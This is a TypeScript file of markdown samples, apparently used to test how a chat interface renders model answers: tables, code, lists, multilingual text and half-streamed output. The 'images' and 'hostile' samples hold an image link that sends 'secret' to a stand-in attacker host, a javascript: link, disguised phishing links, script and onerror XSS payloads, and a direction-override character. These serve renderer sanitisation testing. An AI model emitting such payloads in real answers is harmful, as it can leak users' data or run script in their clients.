/** Texts for the gallery: each shows one thing that models write and that is easily shown wrong. */

const code = (language: string, lines: readonly string[]): string =>
  ["```" + language, ...lines, "```"].join("\n");

export interface Sample {
  /** Part of the page's address. */
  readonly id: string;
  readonly title: string;
  readonly markdown: string;
}

const LONG_CODE = Array.from({ length: 90 }, (_, index) =>
  index % 9 === 0
    ? `\n/** Step ${index / 9 + 1} of the pipeline. */`
    : `  const value${index} = await read(source, { offset: ${index * 64}, "label": "part-${index}" }); // ${index}`,
);

const LONG_PROSE = Array.from(
  { length: 40 },
  (_, index) =>
    `## Part ${index + 1}\n\nEach paragraph of this answer says a little more than the one before, so that a reader can see where a page ends and the next one begins. Numbers such as ${index * 17 + 3} and names such as *example ${index + 1}* stay whole.\n\n- the first point of part ${index + 1}\n- a second one, with \`code_${index}\` and a [link](https://example.org/part/${index + 1})`,
).join("\n\n");

export const SAMPLES: readonly Sample[] = [
  {
    id: "prose",
    title: "Paragraphs, marks and links",
    markdown: [
      "The release moves to **Thursday**, since *two* checks are still ~~red~~ amber: see [the board](https://example.org/board?team=a&view=b) or https://example.org/runs/1842.",
      "It's a matter of A & B < C, and `npm run check -- --fix` says the same.  \nA second line after a break, with ***both marks at once*** and un**real** emphasis inside a word.",
      "Mail <ops@example.org> when in doubt ([details](https://example.org/a_(b))).",
    ].join("\n\n"),
  },
  {
    id: "headings",
    title: "Headings, a rule and quotes",
    markdown:
      "# What happened\n\nThe queue stood still for six minutes.\n\n## Why\n\n> The lock was held by a worker that had lost its connection.\n> Nobody noticed, since its heartbeat went another way.\n>\n> > And who should have seen it?\n\n### What was done\n\nThe lease is shorter now.\n\n#### Still to do\n\nA test that holds it.\n\n---\n\nThat is all.",
  },
  {
    id: "lists",
    title: "Nested lists and tasks",
    markdown:
      "Before the deploy:\n\n1. Look at the board\n   - all checks are green\n   - nobody deploys at the moment\n     1. ask in #ops\n     2. wait for an answer that is longer than one line, so that one sees how a line that wraps is indented below its number\n2. Tag the release\n\n   ```sh\n   git tag v1.4.0 && git push --tags\n   ```\n3. Watch it for ten minutes\n\nAnd after it:\n\n- [x] close the milestone\n- [ ] write the note\n- [ ] tell **support**",
  },
  {
    id: "code",
    title: "Code in several languages, and with backticks",
    markdown: [
      "Use `` `backticks` `` for code, ``` ``two`` ``` for code with backticks, and `<tags>` as they are.",
      code("ts", [
        "export async function retry<T>(work: () => Promise<T>, tries = 3): Promise<T> {",
        "  for (let left = tries; ; left--) {",
        "    try {",
        "      return await work(); // the happy path",
        "    } catch (error) {",
        "      if (left <= 1) throw error;",
        "    }",
        "  }",
        "}",
      ]),
      code("sql", [
        "select city, count(*) as people",
        "from   residents -- all of them",
        "where  moved_in > '2024-01-01'",
        "group  by city;",
      ]),
      code("", ["plain text & <nothing> special", "@everyone <!channel> <@U123> stays text"]),
      "````md\nA fence in a fence:\n```js\nlet a = 1;\n```\n````",
    ].join("\n\n"),
  },
  {
    id: "long-code",
    title: "Code that is longer than a page",
    markdown: `Here is the whole file:\n\n${code("ts", LONG_CODE)}\n\nIt reads the parts one after the other.`,
  },
  {
    id: "narrow-table",
    title: "A narrow table",
    markdown:
      "| city | people | since | note |\n| :-- | --: | :-: | --- |\n| Bonn | 331,885 | 1989 | **calm** |\n| Ulm | 128,928 | 854 | |\n| 東京 | 14,047,594 | 1457 | a\\|b |\n\nThe last row counts the whole prefecture.",
  },
  {
    id: "wide-table",
    title: "A wide table, and one with links",
    markdown:
      "| service | owner | what it does | where it runs | last incident |\n| --- | --- | --- | --- | --- |\n| intake | platform team | takes messages in, stores them before it answers, and wakes the worker | three zones, two instances in each | a full disk on 3 March |\n| worker | agent team | asks the model, runs the tools, writes the reply | wherever there is room | none this year |\n\n| name | page |\n| --- | --- |\n| Runbook | [open](https://example.org/runbook) |\n| Board | [open](https://example.org/board) |",
  },
  {
    id: "images",
    title: "Images and links that are none",
    markdown:
      "![A chart of the week](https://example.org/chart.png)\n\n![](https://evil.example/p?d=secret)\n\n[run me](javascript:alert(1)) and [your bank](https://bank.example@evil.example/login), [https://bank.example](https://evil.example) and [ref][1].\n\n[1]: https://example.org/reference",
  },
  {
    id: "scripts",
    title: "Emoji, right to left, and wide scripts",
    markdown:
      "Done 🎉 — the family 👩‍👩‍👧 of flags 🇫🇷🇯🇵 and :tada: as typed.\n\nשלום עולם, הפריסה הסתיימה. הקובץ `config.yml` עודכן.\n\nمرحبا بالعالم! تم النشر بنجاح.\n\n部署已经完成。请在星期四之前检查**所有**服务,谢谢!\n\n- עברית בפריט\n- 日本語の項目です\n- ภาษาไทยไม่มีช่องว่าง\n\n| שם | 値 |\n| --- | --- |\n| ערך | 東京 |",
  },
  {
    id: "hostile",
    title: "Hostile text",
    markdown:
      '@everyone @here <!channel> <!here|now> <@U123> <@&42> <#C1|general> <!subteam^S1>\n\n<script>alert(1)</script> <img src=x onerror=alert(1)>\n\n&lt;b&gt; &amp;amp; **<b>bold</b>** [<@U123>](https://example.org)\n\n-# not small print, ||not a spoiler||, __not underlined__, <t:1700000000:R>\n\n\\*not emphasis\\* snake_case_name 2*3*4 a * b * c #4 1) x\n\n`<!channel>` "quotes" \u202Egnirts desrever\u202C',
  },
  { id: "long", title: "A long answer over several pages", markdown: LONG_PROSE },
];

/** What a text looks like while it is written: the whole, and where it stands. */
export const HALF_WRITTEN: readonly Sample[] = [
  { id: "half-bold", title: "In the middle of bold", markdown: "The answer is **mostly do" },
  {
    id: "half-link",
    title: "In the middle of a link",
    markdown: "As [the handbook](https://example.org/hand",
  },
  {
    id: "half-code",
    title: "In the middle of code",
    markdown: "Run this:\n\n```sh\nnpm install\nnpm run che",
  },
  {
    id: "half-table",
    title: "A table that has only begun is held back",
    markdown: "The figures:\n\n| city | people |\n| --",
  },
  {
    id: "half-row",
    title: "A table without the row that is being written",
    markdown: "The figures:\n\n| city | people |\n| --- | --: |\n| Bonn | 331,885 |\n| Ulm | 128,",
  },
  {
    id: "half-list",
    title: "In the middle of a list",
    markdown: "Three things:\n\n1. the first\n2. **the sec",
  },
];
